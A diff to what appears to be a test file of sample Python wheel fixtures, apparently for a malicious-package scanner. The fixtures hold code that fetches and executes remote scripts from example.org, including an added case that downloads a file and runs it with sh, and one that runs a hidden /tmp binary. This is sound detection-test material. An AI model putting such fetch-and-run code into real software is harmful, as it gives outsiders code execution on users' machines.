@@ -101,6 +101,10 @@ _WHEELS = {
         "p/api.py": b"import requests\ndef get(url):\n"
         b"    exec(requests.get('https://example.org/a.py').text)\n"
     },
+    "called-download-program": {
+        "p/api.py": b"import os, urllib.request as u\ndef main():\n"
+        b"    u.urlretrieve('https://example.org/a', 'a.sh')\n    os.system('sh a.sh')\n"
+    },
     "called-dropped-program": {
         "p/api.py": b"import os\ndef main():\n    os.system('/tmp/.cache-1')\n"
     },
